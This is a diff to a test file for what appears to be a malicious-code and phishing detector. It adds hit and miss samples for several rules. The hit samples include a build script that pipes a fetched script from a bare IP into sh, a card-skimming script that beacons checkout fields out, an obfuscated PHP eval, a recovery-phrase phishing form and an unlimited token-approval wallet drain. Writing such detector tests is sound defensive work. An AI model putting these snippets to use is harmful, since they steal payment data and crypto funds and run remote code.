@@ -314,6 +314,51 @@ const CASES: Readonly<Record<string, { readonly hits: Texts; readonly misses: Te
       'a compiler just in time': ['source', 'void *p = VirtualAlloc(0, n, 0x3000, PAGE_EXECUTE_READWRITE); emit(p);'],
     },
   },
+  source_runs_fetched_code: {
+    hits: {
+      'a build script in Rust': [
+        'source',
+        'fn main() { let _ = Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/a.sh | sh &").spawn(); }',
+      ],
+    },
+    misses: {
+      'the installer of a known project': [
+        'source',
+        'exec.Command("sh", "-c", "curl --proto =https -sSf https://sh.rustup.rs | sh")',
+      ],
+      'a message that says how': ['source', 'println!("install it: curl -s https://tool.example/a.sh | sh");'],
+    },
+  },
+  script_skims_cards: {
+    hits: {
+      'a checkout page': [
+        'javascript',
+        'if (/checkout|payment/.test(location.href)) { const d = {}; document.querySelectorAll("input,select").forEach(i => d[i.name] = i.value); if (d.cc_number) new Image().src = "https://stat.example/g?d=" + btoa(JSON.stringify(d)) }',
+      ],
+    },
+    misses: {
+      'statistics of a shop': [
+        'javascript',
+        'if (/checkout/.test(location.href)) new Image().src = "https://stat.example/g?u=" + encodeURIComponent(location.href)',
+      ],
+      'a form that checks a card': [
+        'javascript',
+        'document.querySelectorAll("input").forEach(i => { if (i.name === "cc_number" && !luhn(i.value)) i.classList.add("bad") })',
+      ],
+    },
+  },
+  script_runs_disguised_code: {
+    hits: {
+      'the decoder in pieces': [
+        'php',
+        '<?php $d = "base64_"."decode"; $t = $d("aGVsbG8gd29ybGQgaGVsbG8="); @eval($t); ?>',
+      ],
+    },
+    misses: {
+      'the decoder by its name': ['php', '<?php $t = base64_decode("aGVsbG8gd29ybGQgaGVsbG8="); echo $t; ?>'],
+      'a name in pieces that runs nothing': ['php', '<?php $d = "base64_"."decode"; echo $d("aGVsbG8="); ?>'],
+    },
+  },
 }
 
 const PAGE: NonNullable<FileFacts['html']> = {
@@ -340,6 +385,12 @@ const PAGE: NonNullable<FileFacts['html']> = {
 const page = (script: string, given: Partial<NonNullable<FileFacts['html']>> = {}): Partial<FileFacts> => ({
   html: { ...PAGE, script: readScript(script, 'javascript').facts, ...given },
 })
+type Form = NonNullable<FileFacts['html']>['forms'][number]
+const form = (action: string): Form => ({ action, method: 'post', passwordFields: 0, fields: 1 })
+const phrasePage = (action: string): Partial<FileFacts> =>
+  page('', { text: 'Enter your 12-word Secret Recovery Phrase', forms: [form(action)] })
+const DRAIN =
+  "await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + spender + 'f'.repeat(64) }] })"
 const BOT = 'fetch("https://api.telegram.org/bot1:A/sendMessage?text=" + pw.value)'
 
 function member(name: string, given: Partial<FileFacts>): FileFacts {
@@ -370,6 +421,20 @@ const FACTS: Readonly<
     misses: {
       'a bot without a password': page(BOT, { passwordFields: 0 }),
       'a password for its own server': page('fetch("/login", { method: "POST", body: data })'),
+    },
+  },
+  page_asks_for_recovery_phrase: {
+    hits: { 'posted elsewhere': phrasePage('https://restore.example/save.php') },
+    misses: {
+      'a wallet, within itself': phrasePage('/restore'),
+      'a sign-in elsewhere': page('', { text: 'Sign in', forms: [form('https://sso.example/login')] }),
+    },
+  },
+  page_drains_wallet: {
+    hits: { 'a right for a gift': page(DRAIN, { title: 'Claim your airdrop' }) },
+    misses: {
+      'an exchange': page(DRAIN, { title: 'Swap tokens' }),
+      'a gift for nothing': page('connect()', { title: 'Claim your airdrop' }),
     },
   },
   package_hook_runs_attack: {
